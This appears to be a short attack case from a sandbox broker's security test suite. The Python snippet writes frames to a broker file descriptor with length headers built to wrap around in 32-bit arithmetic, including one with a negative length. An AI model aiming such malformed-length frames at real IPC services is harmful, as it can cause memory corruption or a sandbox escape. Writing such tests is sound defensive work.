# attack: raw | announces lengths whose sum is zero in thirty-two bits
import json, os, struct
def send(body, payload=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.write(BROKER_FD, struct.pack("<II", len(body), len(payload)) + body + payload)
body = b'{"op":"log","line":"PLUNDER-WRAP"}'
os.write(BROKER_FD, struct.pack("<II", 0xFFFFFFFF - 7, 8) + body)
os.write(BROKER_FD, struct.pack("<ii", -len(body), 0) + body)
